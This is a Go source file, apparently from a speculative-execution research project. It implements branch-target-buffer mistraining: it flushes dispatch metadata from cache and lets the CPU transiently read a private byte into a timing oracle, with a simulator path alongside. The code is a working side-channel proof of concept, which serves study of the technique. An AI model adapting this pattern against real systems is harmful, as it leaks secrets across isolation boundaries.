// ─────────────────────────────────────────────────────────────────────────────
// [Filename]: branch.go — Branch-target (indirect call) mistraining
//
// Purpose:
//   - Trains the BTB on RealAccessor through N-1 dispatches, then dispatches a
//     CensoringAccessor with wantPrivate set. The CPU predicts Real at the
//     boundary slot and transiently reads private[offset] into the oracle.
//
// Notes:
//   - All N slots are rebound every trial; the censoring slot walks round-robin.
//   - Before each dispatch the interface header, its itab line and the target
//     object are flushed so the call target cannot resolve from cache.
//   - Architecturally every dispatch returns public[offset]: the baseline slot.
// ─────────────────────────────────────────────────────────────────────────────

package predictor

import (
	"unsafe"

	"specleak/constants"
	"specleak/oracle"
)

// siteDispatch identifies the single indirect call site for the shadow BTB.
const siteDispatch = 1

// BranchTargetState is the dispatch table and which slot holds the censoring variant.
type BranchTargetState struct {
	slots     [constants.AccessorCount]Accessor
	kinds     [constants.AccessorCount]Kind
	real      *RealAccessor
	censoring *CensoringAccessor
	boundary  int // index of the censoring slot for the current trial
}

// bind points every slot at the real accessor, then slot trial mod N at the censoring one.
func (s *BranchTargetState) bind(trial int) int {
	for i := range s.slots {
		s.slots[i] = s.real
		s.kinds[i] = KindReal
	}
	k := trial % constants.AccessorCount
	s.slots[k] = s.censoring
	s.kinds[k] = KindCensoring
	s.boundary = k
	return k
}

// Boundary returns the censoring slot of the last bound trial.
func (s *BranchTargetState) Boundary() int { return s.boundary }

// KindAt returns the variant bound to slot i.
func (s *BranchTargetState) KindAt(i int) Kind { return s.kinds[i] }

// BranchTarget mistrains the indirect branch predictor.
type BranchTarget struct {
	state   BranchTargetState
	oracle  *oracle.Oracle
	backend oracle.Backend
	data    *Data
	chain   int
	shadow  Shadow
}

// NewBranchTarget builds the strategy. chain adds that many indirect hops per
// dispatch; shadow is nil on hardware.
func NewBranchTarget(o *oracle.Oracle, d *Data, chain int, shadow Shadow) (*BranchTarget, error) {
	if chain < 0 {
		return nil, ErrChainDepth
	}
	b := &BranchTarget{
		oracle:  o,
		backend: o.Backend(),
		data:    d,
		chain:   chain,
		shadow:  shadow,
	}
	b.state.real = NewRealAccessor(d)
	b.state.censoring = NewCensoringAccessor(d)
	return b, nil
}

// State exposes the dispatch table for inspection.
func (b *BranchTarget) State() *BranchTargetState { return &b.state }

// Chain returns the configured hop count.
func (b *BranchTarget) Chain() int { return b.chain }

// TriggerOnce dispatches slots 0..trial mod N, asking for private data only at
// the censoring slot.
func (b *BranchTarget) TriggerOnce(offset, trial int) {
	st := &b.state
	k := st.bind(trial)

	for i := 0; i <= k; i++ {
		acc := st.slots[i]
		wantPrivate := i == k

		b.flushTarget(i)
		if b.shadow != nil {
			b.speculate(st.kinds[i], offset, wantPrivate)
		}

		if b.chain == 0 {
			b.oracle.Touch(acc.GetByte(offset, wantPrivate))
		} else {
			b.oracle.Touch(acc.GetByteDepth(offset, wantPrivate, b.chain))
		}
	}
}

// flushTarget evicts slot i's interface header, its itab and the accessor object.
//
//go:nosplit
func (b *BranchTarget) flushTarget(i int) {
	hdr := (*[2]uintptr)(unsafe.Pointer(&b.state.slots[i]))
	b.backend.FlushLine(uintptr(unsafe.Pointer(hdr)))
	b.backend.FlushLine(hdr[0])
	oracle.FlushRange(b.backend, hdr[1], hdr[1]+cellSize)
}

// speculate runs the predicted body when the shadow BTB still expects Real at a
// censoring slot. Simulator only.
func (b *BranchTarget) speculate(actual Kind, offset int, wantPrivate bool) {
	p, ok := b.shadow.Indirect(siteDispatch, int(actual))
	if ok && Kind(p) == KindReal && actual != KindReal {
		b.oracle.Touch(b.data.load(offset, wantPrivate))
	}
}
